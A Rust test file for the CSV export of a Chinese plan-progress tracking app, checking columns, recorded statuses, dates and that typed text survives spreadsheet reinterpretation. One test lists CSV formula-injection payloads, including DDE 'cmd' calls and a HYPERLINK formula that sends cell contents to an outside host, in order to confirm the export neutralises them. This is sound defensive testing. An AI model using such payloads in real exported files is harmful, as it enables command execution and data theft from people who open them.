//! 导出: items as a table, read again by a reader that knows only RFC 4180.

use proptest::prelude::*;
use yaodian_export::table;
use yaodian_plan::query::{AsOf, Moment, Status, Timing};
use yaodian_plan::{ItemId, MeetingKind};
use yaodian_progress::{Author, Field, ProgressBook, RecordedStatus, SessionId, Value};

use crate::support::{
    Edit as _, PLAN, book, by, catalog, day, few, item, july, month, recorded, shown, stamp, text,
};

const EARLY: AsOf = AsOf::Before;

/// The rows of a file, each with its cells.
fn read(file: &str) -> Vec<Vec<String>> {
    let mut chars = file.strip_prefix('\u{feff}').expect("a byte order mark").chars().peekable();
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    while let Some(char) = chars.next() {
        match char {
            '"' if cell.is_empty() => loop {
                match chars.next().expect("the end of a quoted cell") {
                    '"' if chars.next_if_eq(&'"').is_some() => cell.push('"'),
                    '"' => break assert!(matches!(chars.peek(), Some(',' | '\r'))),
                    char => cell.push(char),
                }
            },
            ',' => row.push(std::mem::take(&mut cell)),
            '\r' => {
                assert_eq!(chars.next(), Some('\n'));
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            '"' | '\n' => panic!("a cell that ought to be quoted: {cell}"),
            char => cell.push(char),
        }
    }
    assert!(row.is_empty() && cell.is_empty(), "the last row has its end");
    rows
}

fn all(book: &ProgressBook, as_of: AsOf) -> Vec<Vec<String>> {
    let items: Vec<usize> = catalog().all().collect();
    read(&table(catalog(), book, &items, as_of.into()))
}

/// One cell, by the id of its row and the name of its column.
fn cell<'a>(rows: &'a [Vec<String>], id: &str, column: &str) -> &'a str {
    let at = rows[0].iter().position(|name| name == column).expect(column);
    let row = rows.iter().find(|row| row[0] == id).expect(id);
    &row[at]
}

/// A cell as one sees it: its guard has no width.
fn as_shown(cell: &str) -> &str {
    cell.strip_prefix('\u{200b}').unwrap_or(cell)
}

#[test]
fn promise_26_a_table_has_every_item_of_the_plan_as_the_document_has_it() {
    let rows = all(&ProgressBook::new(PLAN), EARLY);
    assert_eq!(rows.len(), 1 + 43 + 39);
    assert_eq!(
        rows[0].join(" "),
        "编号 来源 类别 序号 时间 事项 承办部门 会议 会议日期 进展 实际日期 推迟到 原因或说明 最近记录 记录数 登记人"
    );
    for (row, item) in rows.iter().skip(1).zip(&catalog().plan.items) {
        assert_eq!(row.len(), 16);
        assert_eq!(
            [&row[0], &row[5], &row[6]],
            [&item.id.to_string(), &item.title, &item.responsibility.text]
        );
    }
    let of = |id, column| cell(&rows, id, column);
    assert_eq!(of("s2-3", "来源"), "安排表");
    assert_eq!(of("s2-3", "类别"), "听取和审议/听取专项工作报告");
    assert_eq!(of("s2-3", "序号"), "3");
    assert_eq!([of("m7-2", "来源"), of("m7-2", "类别"), of("m7-2", "序号")], ["月度任务", "", "2"]);
    let times: Vec<&str> = rows.iter().skip(1).map(|row| row[4].as_str()).collect();
    for time in ["7月", "全年", "时间未定"] {
        assert!(times.contains(&time), "{time}");
    }
    // What the document itself reports.
    assert_eq!(of("m1-1", "进展"), "已完成");
}

#[test]
fn promise_26_a_table_says_what_was_recorded() {
    let mut book = ProgressBook::new(PLAN);
    let postponed =
        RecordedStatus { status: Some(Status::Postponed(month(11))), reason: "等上级文件".into() };
    // 20 March 2023.
    let (ann, bob) = (stamp(1_679_270_400_000, "ann"), stamp(1_679_270_400_001, "bob"));
    book.set(Field::Author(by("ann")), Value::Author(Author { name: "王芳".into(), unit: None }), ann);
    book.set_status(item("m3-1"), postponed, ann);
    book.add_note(item("m3-1"), "第一条", ann);
    book.add_note(item("m3-1"), "第二条，\n分两行", stamp(1_679_270_400_003, "ann"));
    book.set_status(item("m3-2"), recorded(Status::Done), bob);
    book.set(Field::Date(item("m3-2")), Value::Date(Some(day(3, 9))), bob);
    let brought = catalog().plan.items.iter().find(|item| {
        SessionId::of(item, Timing::planned(item), MeetingKind::StandingCommittee) == Some(july())
            && item.meetings.len() == 1
    });
    let brought = brought.expect("an item of the meeting in July").id.to_string();
    book.set(Field::SessionDate(july()), Value::Date(Some(day(7, 26))), ann);

    let rows = all(&book, AsOf::Month(month(4)));
    let of = |id, column| cell(&rows, id, column);
    assert_eq!([of("m3-1", "进展"), of("m3-1", "推迟到")], ["已推迟", "11月"]);
    assert_eq!([of("m3-1", "原因或说明"), of("m3-1", "最近记录")], ["等上级文件", "第二条，\n分两行"]);
    assert_eq!([of("m3-1", "记录数"), of("m3-1", "登记人")], ["2", "王芳"]);
    assert_eq!(
        [of("m3-2", "进展"), of("m3-2", "实际日期"), of("m3-2", "推迟到")],
        ["已完成", "2023-03-09", ""]
    );
    assert_eq!([of("m3-1", "时间"), of("m3-2", "时间"), of("s9-1", "时间")], ["3月→11月", "3月", "2—3月"]);
    // A device without a name is told apart from others without one.
    assert_eq!([of("m3-2", "记录数"), of("m3-2", "登记人")], ["0", "未署名（设备 bob）"]);
    assert_eq!([of(&brought, "会议"), of(&brought, "会议日期")], ["常委会会议", "2023-07-26"]);
    // Seen from later on it is late.
    assert_eq!(cell(&all(&book, AsOf::Month(month(12))), "m3-1", "进展"), "已逾期");
}

/// A day that was still ahead when it was written is no actual one.
#[test]
fn a_planned_day_is_said_to_be_one() {
    let mut book = ProgressBook::new(PLAN);
    let then = stamp(1_679_270_400_000, "ann");
    book.set(Field::Date(item("m3-1")), Value::Date(Some(day(3, 20))), then);
    book.set(Field::Date(item("m3-2")), Value::Date(Some(day(3, 21))), then);
    let rows = all(&book, AsOf::Month(month(3)));
    let of = |id| cell(&rows, id, "实际日期");
    assert_eq!([of("m3-1"), of("m3-2")], ["2023-03-20", "2023-03-21（预定）"]);
}

#[test]
fn a_table_as_of_a_month_knows_nothing_of_what_came_later() {
    let mut book = ProgressBook::new(PLAN);
    let march = stamp(1_679_270_400_000, "ann");
    book.set_status(item("m2-1"), recorded(Status::Done), march);
    book.set_status(item("m2-2"), recorded(Status::Postponed(month(5))), march);
    let items: Vec<usize> = catalog().all().collect();
    let seen = |number| {
        let moment = Moment { as_of: AsOf::Month(month(number)), today: AsOf::Month(month(7)) };
        read(&table(catalog(), &book, &items, moment))
    };
    let of = |number, id| ["进展", "时间", "推迟到"].map(|column| cell(&seen(number), id, column).to_owned());
    assert_eq!([of(2, "m2-1")[0].as_str(), of(3, "m2-1")[0].as_str()], ["未开始", "已完成"]);
    assert_eq!([of(2, "m2-2"), of(3, "m2-2")], [["未开始", "2月", ""], ["已推迟", "2月→5月", "5月"]]);
}

#[test]
fn a_table_has_the_items_that_were_asked_for_in_their_order() {
    let rows = read(&table(catalog(), &ProgressBook::new(PLAN), &[5, 2, 10_000], EARLY.into()));
    let ids: Vec<ItemId> = [5, 2].map(|at: usize| catalog().plan.items[at].id).into();
    assert_eq!(rows.iter().skip(1).map(|row| item(&row[0])).collect::<Vec<_>>(), ids);
    assert_eq!(read(&table(catalog(), &ProgressBook::new(PLAN), &[], EARLY.into())).len(), 1);
}

#[test]
fn promise_26_hostile_texts_stay_texts() {
    for hostile in [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.com/?\"&A1,\"看这里\")",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        " \u{3000}＝1+1",
        "\t=1+1",
        "\r=1+1",
        "a\",\"=1+1",
        "a\r\n=1+1",
        "\u{0}=1+1",
    ] {
        let mut book = ProgressBook::new(PLAN);
        let recorded = RecordedStatus { status: Some(Status::Doing), reason: hostile.into() };
        book.set_status(item("m3-1"), recorded, stamp(1, "ann"));
        book.add_note(item("m3-1"), hostile, stamp(1, "ann"));
        let author = Author { name: hostile.into(), unit: None };
        book.set(Field::Author(by("ann")), Value::Author(author), stamp(1, "ann"));
        let rows = all(&book, EARLY);
        assert!(rows.iter().all(|row| row.len() == 16), "{hostile:?}");
        for column in ["原因或说明", "最近记录", "登记人"] {
            let cell = cell(&rows, "m3-1", column);
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝']), "{column} {cell:?}");
            assert_eq!(as_shown(cell), shown(hostile), "{column} {cell:?}");
        }
    }
}

/// What a spreadsheet computes or rewrites is guarded by something that nobody sees; it is neither white space, which
/// spreadsheets pass over, nor an apostrophe, which they show.
#[test]
fn promise_26_what_a_spreadsheet_would_rewrite_reads_back_as_typed() {
    for typed in [
        "- 已联系",
        "—已联系",
        "+86 757 1234",
        "=",
        "3/4",
        "3-4",
        "3.10",
        "0012",
        "００１２",
        "440605199001011234",
        "1e5",
        "50%",
        "￥3,000",
        "（3）",
        "10:30",
        "3月4日",
        "2023年3月",
        "二〇二三年三月一日",
        "下午3点",
        "Mar 3",
        "true",
        "FALSE",
        " 007 ",
        "\u{200b}开头",
        "1/2/3",
    ] {
        let mut book = ProgressBook::new(PLAN);
        let recorded = RecordedStatus { status: Some(Status::Doing), reason: typed.into() };
        book.set_status(item("m3-1"), recorded, stamp(1, "ann"));
        book.add_note(item("m3-1"), typed, stamp(1, "ann"));
        let rows = all(&book, EARLY);
        for column in ["原因或说明", "最近记录"] {
            let cell = cell(&rows, "m3-1", column);
            assert_eq!(as_shown(cell), shown(typed), "{column}");
            assert!(typed.starts_with('—') || cell.starts_with('\u{200b}'), "{column} {cell:?}");
        }
    }
    // What is plainly text is left as it is, and so is what the app itself says.
    for plain in ["已联系3家单位", "3月4日已联系", "等上级文件", "v2 已发", "一致同意"]
    {
        let mut book = ProgressBook::new(PLAN);
        book.add_note(item("m3-1"), plain, stamp(1, "ann"));
        book.set(Field::Date(item("m3-1")), Value::Date(Some(day(3, 9))), stamp(1_679_270_400_000, "ann"));
        let rows = all(&book, AsOf::Month(month(4)));
        let of = |column| cell(&rows, "m3-1", column);
        assert_eq!(
            [of("最近记录"), of("实际日期"), of("时间"), of("记录数")],
            [plain, "2023-03-09", "3月", "1"]
        );
    }
}

proptest! {
    #![proptest_config(few())]

    #[test]
    fn promise_26_every_cell_can_be_read_again(book in book(), note in text()) {
        let mut book = book;
        book.add_note(item("m3-1"), &note, stamp(9, "ann"));
        let rows = all(&book, AsOf::After);
        prop_assert!(rows.len() == 83 && rows.iter().all(|row| row.len() == 16));
        for id in ["m3-1", "s1-1", "m7-2"] {
            let recorded = book.item(item(id));
            let latest = recorded.live_notes().next_back().map_or("", |(_, text)| text);
            for (column, text) in [("最近记录", latest), ("原因或说明", recorded.reason())] {
                prop_assert_eq!(as_shown(cell(&rows, id, column)), shown(text), "{}", column);
            }
        }
    }
}
